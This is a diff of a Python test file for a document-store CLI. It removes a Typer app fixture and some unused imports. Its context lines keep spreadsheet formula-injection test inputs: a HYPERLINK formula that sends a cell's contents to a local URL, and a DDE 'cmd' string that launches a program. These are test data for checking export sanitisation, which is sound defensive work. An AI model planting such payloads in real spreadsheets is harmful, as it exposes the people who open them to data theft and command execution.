@@ -10,13 +10,11 @@ import zipfile
 from pathlib import Path
 
 import pytest
-import typer
 from typer.testing import CliRunner
 
 from store_fixtures import *  # noqa: F401,F403
 from store_fixtures import make_record, page_text_for
 from dispatch_reader.store import FilterError, open_store
-from dispatch_reader.store.cli import register
 
 EVIL_SUBJECT = '=HYPERLINK("http://127.0.0.1:9/?x="&A2,"Bấm vào đây")'
 EVIL_PEOPLE = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
@@ -124,18 +122,6 @@ def test_english_headers_and_raw_field_names(store, tmp_path):
     assert {"document_number", "issuer", "status", "end_effective", "end_derived", "source_file"} <= set(raw[0])
     lo = next(r for r in raw if r["person"] == "Lò Thông Nhất")
     assert (lo["end"], lo["end_effective"], lo["end_derived"]) == ("", "2026-02-28", "True")
-
-
-@pytest.fixture
-def app() -> typer.Typer:
-    app = typer.Typer(add_completion=False, rich_markup_mode=None)
-
-    @app.callback()
-    def main() -> None:
-        """dispatch-reader (test host)"""
-
-    register(app)
-    return app
 
 
 @pytest.mark.parametrize("fmt, name", [("xlsx", "a.csv"), ("csv", "a.xlsx"), ("json", "a.csv")])
